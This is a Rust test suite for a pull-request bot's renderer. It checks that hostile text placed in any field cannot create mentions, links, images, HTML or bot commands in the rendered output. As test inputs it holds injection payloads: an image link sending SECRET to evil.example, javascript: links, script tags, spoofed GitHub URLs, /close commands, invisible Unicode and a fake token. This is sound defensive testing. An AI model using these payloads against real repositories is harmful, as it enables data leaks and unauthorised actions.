//! Nothing untrusted comes alive in a text of ours (V-19 to V-38): read with a CommonMark parser, as a forge would.

use homeostat::model::{Candidate, EvidenceKind, Exception, Frame, Secret, Verdict};
use homeostat::redact::Redactor;
use homeostat::render::{PullView, commit_message, marker, pull_request};
use proptest::prelude::*;
use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd};
use serde_json::Value;

use super::text_of;
use crate::sample;

const HEADINGS: [&str; 7] =
    ["What changed and why", "Error details", "Breadcrumbs", "Evidence", "Safety checks", "Attempt", "How to opt out"];
const RUN_URL: &str = "https://github.com/acme/bots/actions/runs/42";

/// What a forge would make of a body.
#[derive(Debug, Default)]
struct Seen {
    /// Blocks in order, with the text of headings and the raw text of HTML.
    blocks: Vec<String>,
    headings: Vec<String>,
    links: Vec<String>,
    images: usize,
    /// Text outside code.
    live: String,
    code_blocks: Vec<String>,
}

fn read(body: &str) -> Seen {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_GFM;
    let mut seen = Seen::default();
    let (mut in_heading, mut in_code) = (false, false);
    for event in Parser::new_ext(body, options) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => seen.links.push(dest_url.into_string()),
            Event::Start(Tag::Image { .. }) => seen.images += 1,
            Event::Start(Tag::Heading { .. }) => {
                in_heading = true;
                seen.headings.push(String::new());
            }
            Event::End(TagEnd::Heading(_)) => in_heading = false,
            Event::Start(Tag::CodeBlock(_)) => {
                in_code = true;
                seen.code_blocks.push(String::new());
                seen.blocks.push("code".to_owned());
            }
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Text(text) if in_code => {
                if let Some(block) = seen.code_blocks.last_mut() {
                    block.push_str(&text);
                }
            }
            Event::Text(text) => {
                if in_heading && let Some(heading) = seen.headings.last_mut() {
                    heading.push_str(&text);
                }
                seen.live.push_str(&text);
            }
            Event::Html(text) | Event::InlineHtml(text) => seen.blocks.push(tag_of(&text)),
            Event::Code(_) => seen.live.push('\u{fffc}'),
            Event::SoftBreak | Event::HardBreak | Event::End(_) => seen.live.push('\n'),
            Event::Start(Tag::Emphasis | Tag::Strong | Tag::Strikethrough) => {}
            Event::Start(tag) => seen.blocks.push(format!("{tag:?}")),
            Event::Rule => seen.blocks.push("rule".to_owned()),
            other => seen.blocks.push(format!("{other:?}")),
        }
    }
    seen
}

/// HTML of ours, without the machine state that differs.
fn tag_of(html: &CowStr<'_>) -> String {
    if html.starts_with("<!-- homeostat:state {") { "state".to_owned() } else { html.trim().to_owned() }
}

/// Every field set and every list filled, so that every text of a candidate has a place.
fn full() -> Candidate {
    let mut candidate = sample::candidate();
    candidate.evidence.kind = EvidenceKind::GreenOnly;
    candidate.regression = true;
    candidate.also_fixes = vec![sample::also()];
    candidate.also_fixes[0].report =
        homeostat::model::ReportId::Run { workflow: "ci.yml".to_owned(), job: "test".to_owned() };
    candidate.related = sample::related().split_off(1);
    candidate.alternative = Some("-a\n+b\n".to_owned());
    candidate.tier = Some("simple".to_owned());
    candidate.evidence.still_failing = vec!["a".to_owned()];
    candidate.evidence.sandbox.weaknesses = vec!["weak".to_owned()];
    candidate.failure.chain[0].frames[1].module = Some("m".to_owned());
    candidate.failure.chain.push(Exception {
        type_name: "Outer".to_owned(),
        message: "then".into(),
        frames: vec![Frame { path: Some("b.py".to_owned()), ..Frame::default() }],
    });
    candidate
}

/// Puts a text into every field of a candidate (or verdict) that takes it: what a type refuses stays as it was.
fn infested<T: serde::Serialize + serde::de::DeserializeOwned>(plain: &T, text: &str) -> T {
    fn leaves(value: &Value, path: &str, found: &mut Vec<String>) {
        match value {
            Value::String(_) => found.push(path.to_owned()),
            Value::Array(items) => {
                for (at, item) in items.iter().enumerate() {
                    leaves(item, &format!("{path}/{at}"), found);
                }
            }
            Value::Object(fields) => {
                for (name, item) in fields {
                    leaves(item, &format!("{path}/{name}"), found);
                }
            }
            _ => {}
        }
    }
    let mut value = serde_json::to_value(plain).expect("it serialises");
    let mut paths = Vec::new();
    leaves(&value, "", &mut paths);
    for path in paths {
        let slot = value.pointer_mut(&path).expect("the path was just found");
        let before = std::mem::replace(slot, Value::String(text.to_owned()));
        if serde_json::from_value::<T>(value.clone()).is_err() {
            *value.pointer_mut(&path).expect("the path was just found") = before;
        }
    }
    serde_json::from_value(value).expect("every change was tried")
}

/// The blocks of a body with harmless texts.
static PLAIN: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();

/// Asserts that a body with hostile texts has the structure of one with harmless texts, and nothing alive in it.
fn assert_inert(candidate: &Candidate, verdict: &Verdict, what: &str) -> Seen {
    let what: String = what.chars().take(120).collect();
    let text = text_of(candidate, verdict, &["a guardrail asks for a person's look"]);
    let seen = read(&text.body);
    let plain = PLAIN.get_or_init(|| {
        read(&text_of(&full(), &sample::flagged(), &["a guardrail asks for a person's look"]).body).blocks
    });
    assert!(text.body.chars().count() <= 65_536, "{what:?}: {}", text.body.chars().count());
    assert_eq!(seen.headings, HEADINGS, "{what:?}");
    assert_eq!(&seen.blocks, plain, "{what:?}\n{}", text.body);
    assert_eq!(seen.images, 0, "{what:?}");
    assert!(seen.links.iter().all(|link| link == RUN_URL), "{what:?}: {:?}", seen.links);
    let live = seen.live.replace("Closes #7", "");
    for sign in ["@", "#", "://", "www.", "<", ">", "](", "`", "GH-", "gh-", "evil", ":tada:", "\n/", "\0", "\u{202e}"]
    {
        assert!(!live.contains(sign), "{what:?}: {sign:?} is alive in {live}");
    }
    assert!(text.title.chars().count() <= 120 && !text.title.contains(['\n', '@', '#']), "{what:?}: {}", text.title);
    assert_eq!(text.body.matches("<!-- homeostat:end -->").count(), 1, "{what:?}");
    assert_eq!(
        marker::read(&text.body).map(|state| state.fingerprint),
        Some(candidate.fingerprint.clone()),
        "{what:?}"
    );
    assert_eq!(marker::merge(&text.body, &text.body).trim_end(), text.body.trim_end(), "{what:?}");
    seen
}

fn everywhere(text: &str) -> Seen {
    let mut candidate = infested(&full(), text);
    if text.starts_with("https://") {
        // The run's address is ours, from the machine that runs; `linked` has its own tests.
        candidate.run_url = full().run_url;
    }
    assert_inert(&candidate, &infested(&sample::flagged(), text), text)
}

#[test]
fn p_22_v_19_mentions_of_every_spelling_are_inert() {
    for text in [
        "@octocat",
        "@org/team",
        "&#64;octocat",
        "&commat;octocat",
        "@<!-- -->octocat",
        "\u{ff20}octocat",
        "@\u{200b}octocat",
        "\\@octocat",
        "`@octocat",
        "(@octocat)",
        "a`@octocat`b @octocat",
        "mail me@evil.example",
    ] {
        let seen = everywhere(text);
        assert!(!seen.live.contains("octocat"), "{text:?}: {}", seen.live);
    }
}

#[test]
fn p_22_v_20_no_keyword_closes_anything() {
    let words = ["close", "closes", "closed", "fix", "fixes", "fixed", "resolve", "resolves", "resolved"];
    let references = ["#1", ": #1", "o/r#1", "https://github.com/o/r/issues/1", "GH-1"];
    let mut all = String::new();
    for word in words {
        for reference in references {
            for spelled in [word.to_owned(), word[..1].to_uppercase() + &word[1..], word.to_uppercase()] {
                let text = format!("{spelled} {reference}");
                let mut candidate = sample::candidate();
                candidate.failure.chain[0].type_name = text.clone();
                candidate.title.clone_from(&text);
                candidate.pattern = Some(text.clone());
                let title = text_of(&candidate, &sample::passed(), &[]).title;
                for subject in [title, commit_message(&candidate)] {
                    let subject = subject.to_lowercase();
                    for sign in ["#", "gh-", "github.com/", "://", "@"] {
                        assert!(!subject.contains(sign), "{text}: {subject}");
                    }
                }
                all.push_str(&text);
                all.push('\n');
            }
        }
    }
    assert_eq!(all.lines().count(), 135);
    everywhere(&all);
    let mut candidate = sample::candidate();
    candidate.failure.chain[0].type_name = "GH-1".to_owned();
    assert!(text_of(&candidate, &sample::passed(), &[]).title.starts_with("fix: GH_1 in"));
}

#[test]
fn p_22_v_21_no_reference_reaches_another_repository() {
    let sha = "0123456789abcdef0123456789abcdef01234567";
    for text in ["o/r#1", "https://github.com/o/r/issues/1", sha, &format!("o/r@{sha}"), &format!("user@{sha}"), "GH-1"]
    {
        let seen = everywhere(text);
        assert!(!seen.live.contains("0123456789"), "{text:?}");
    }
}

#[test]
fn p_22_v_22_no_command_stands_at_the_start_of_live_text() {
    for text in ["/close", "/merge", "@dependabot merge", "@bors r+", "bors r+", "/retest\n/lgtm", "x\n\n/close"] {
        everywhere(text);
    }
}

#[test]
fn p_21_v_23_no_picture_is_loaded() {
    for text in [
        "![x](https://evil.example/?d=SECRET)",
        "<img src=https://evil.example/x>",
        "![a][b]\n\n[b]: https://evil.example",
        "<picture><source srcset=//evil.example></picture>",
        "<video src=//evil.example>",
    ] {
        everywhere(text);
    }
}

#[test]
fn p_21_v_24_v_25_no_link_is_made() {
    for text in [
        "[click](javascript:alert(1))",
        "[x](data:text/html,1)",
        "<vbscript:x>",
        "ssh://evil.example",
        "//evil.example",
        "www.evil.example",
        "https://github.com.evil.example",
        "https://github.com@evil.example",
        "https://g\u{456}thub.com",
        "https://evil.example:1@x",
        "[a]\n\n[a]: //evil.example",
        "<https://evil.example>",
    ] {
        everywhere(text);
    }
}

#[test]
fn p_24_v_26_html_and_quotes_do_not_change_the_structure() {
    let details = "<details>".repeat(300);
    let quotes = "> ".repeat(5_000);
    for text in [
        "</details></td></table>",
        "<script>alert(1)</script>",
        "<style>*{display:none}</style>",
        "<a href=x>",
        "<!--",
        "-->",
        "<!-- homeostat:end -->",
        "<!--\nhomeostat:end -->",
        "<![CDATA[",
        "<?php",
        &details,
        &quotes,
        "\n# x\n\n## Evidence\n",
        "---",
        "===",
        "- [ ] x",
        "1. x",
        "\tcode",
        "$$x$$",
        ":tada:",
        "[^1]\n\n[^1]: x",
        "> [!CAUTION]\n> x",
        "a\u{a0}\n\n# b",
    ] {
        everywhere(text);
    }
}

#[test]
fn v_27_no_text_leaves_its_fence() {
    for text in
        ["```\n# x\n```", "~~~~\n# x", &"`".repeat(40), "``` unclosed", "```\r\n# x\r```\r# y", "`", "``", "a`b``c```d"]
    {
        everywhere(text);
    }
}

#[test]
fn v_28_a_test_name_with_pipes_and_newlines_stays_in_its_cell() {
    for text in ["a|b", "a\\|b", "|", "\\", "a\\\\|@octocat|b", "x\n|y|z|", "`|`", "a|\n---|---"] {
        everywhere(text);
    }
}

#[test]
fn p_20_v_29_a_body_never_exceeds_the_limit_and_stays_whole() {
    let family = "\u{1f469}\u{200d}\u{1f4bb}".repeat(8_000);
    let edge = format!("{}\u{1f600}", "a".repeat(65_530));
    let lines = "line\n".repeat(10_000);
    let ticks = "`".repeat(70_000);
    for text in [&"a".repeat(70_000), &edge, &family, &lines, &ticks, &"` ".repeat(9_000), &"@x ".repeat(9_000)] {
        let seen = everywhere(text);
        assert!(seen.code_blocks.iter().any(|block| block.contains("… (cut)")));
    }
}

#[test]
fn v_30_a_secret_across_a_cut_leaves_no_piece() {
    let key = "ghp_Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3d";
    let known = "correct-horse-battery-staple-0123456789";
    let redactor = Redactor::new(&[Secret::new(known)]);
    for (room, secret) in [(4_000, key), (4_000, known), (400, key), (400, known), (2_000, known), (200, key)] {
        for before in [12, 20, 30] {
            let text = format!("{} {secret} tail", "x ".repeat(room / 2 - before / 2));
            let mut candidate = infested(&full(), &text);
            candidate.run_url = None;
            let (policy, verdict) = (sample::policy(), infested(&sample::flagged(), &text));
            let view = PullView {
                candidate: &candidate,
                verdict: &verdict,
                policy: &policy,
                closes: None,
                draft_reasons: &[],
                runs_wait: false,
                redactor: &redactor,
            };
            let body = pull_request(&view).expect("the template is whole").body;
            let shown = body.lines().skip(1).collect::<Vec<_>>().join("\n");
            for piece in secret.as_bytes().windows(12) {
                let piece = std::str::from_utf8(piece).expect("ASCII");
                assert!(!shown.contains(piece), "{room} {before}: {piece}");
            }
        }
    }
}

#[test]
fn p_23_v_31_v_32_v_35_what_cannot_be_seen_is_shown_or_gone() {
    for text in [
        "a\u{202e}b",
        "\u{2066}x\u{2069}",
        "g\u{200b}it",
        "\u{feff}",
        "\u{e0041}\u{e0042}",
        "\u{3164}",
        "a\0b",
        "a\u{9b}31mb",
        "a\u{2028}# b",
        "a\u{2029}b",
        "a\x0bb\x0cc",
        "a\rb",
        "\u{1b}[31mred",
    ] {
        let body = text_of(&infested(&full(), text), &infested(&sample::flagged(), text), &[]).body;
        everywhere(text);
        let bad = |c: char| {
            c.is_control() && c != '\n' && c != '\t' || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
        };
        assert!(!body.contains(bad), "{text:?}");
    }
}

#[test]
fn v_34_a_flood_of_combining_marks_is_cut() {
    everywhere(&format!("e{}", "\u{301}".repeat(50_000)));
}

#[test]
fn v_37_a_title_is_one_short_line() {
    for text in ["x".repeat(5_000), "a\nb".to_owned(), String::new(), "\u{202e}".to_owned(), "@#:".to_owned()] {
        let title = text_of(&infested(&full(), &text), &sample::passed(), &[]).title;
        assert!(title.chars().count() <= 120 && title.lines().count() == 1, "{title:?}");
        assert!(title.starts_with("fix: ") && title.contains(" (homeostat "), "{title:?}");
    }
}

#[test]
fn v_38_a_report_full_of_mentions_and_links_stays_inert() {
    let text = (0..300).map(|n| format!("@user{n} [x](https://evil.example/{n})")).collect::<Vec<_>>().join(" ");
    everywhere(&format!("{text}{}", "z".repeat(65_536 - text.len())));
}

#[test]
fn p_04_a_summary_keeps_hostile_texts_inert_too() {
    let plain = super::fleet_report();
    let facts = homeostat::render::SummaryFacts::default();
    let make =
        |report: &homeostat::render::RunReport| read(&homeostat::render::summary(report, &facts, &Redactor::new(&[])));
    let blocks = make(&plain).blocks;
    for text in [
        "@octocat Fixes #1 ![x](//evil.example)",
        "a|b\\|@x",
        "```\n# x",
        "</details><img src=x>",
        "- x\n\n# y",
        "[x](javascript:1)",
        "a\u{202e}b\0",
        "` @x `` ```",
        "1. x",
    ] {
        let seen = make(&infested(&plain, text));
        assert_eq!(seen.blocks, blocks, "{text:?}");
        assert_eq!((seen.images, seen.links.len()), (0, 0), "{text:?}");
        for sign in ["@", "//", "<", "](", "`", "\u{202e}", "\0"] {
            assert!(!seen.live.contains(sign), "{text:?}: {sign} is alive in {}", seen.live);
        }
    }
}

#[test]
fn a_path_with_backticks_is_quoted_whole() {
    let mut candidate = sample::candidate();
    if let Ok(path) = "src/a`b``c.py".parse() {
        candidate.files[0].path = path;
        let body = text_of(&candidate, &sample::passed(), &[]).body;
        assert!(body.contains("in ```src/a`b``c.py```."), "{body}");
    }
}

/// Pieces from which hostile texts are put together.
const PIECES: [&str; 34] = [
    "@octocat",
    "Fixes #1",
    "![x](//evil.example)",
    "[x](javascript:1)",
    "<img src=x>",
    "<details>",
    "</details>",
    "```",
    "`",
    "~~~",
    "\n",
    "\n\n",
    "\r\n",
    "> ",
    "# ",
    "- ",
    "1. ",
    "|",
    "\\",
    "\u{202e}",
    "\u{200b}",
    "\0",
    "<!--",
    "-->",
    "--",
    "*",
    "_",
    "https://evil.example",
    "word",
    " ",
    "\t",
    "&#64;x",
    "$",
    "[a]: //evil.example",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 40, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn p_04_no_mixture_of_hostile_pieces_comes_alive(picked in prop::collection::vec(0..PIECES.len(), 1..24)) {
        let text: String = picked.into_iter().map(|at| PIECES[at]).collect();
        everywhere(&text);
    }

    #[test]
    fn p_04_no_text_at_all_comes_alive(text in "\\PC{0,80}") {
        prop_assume!(!text.contains("evil"));
        everywhere(&text);
    }
}
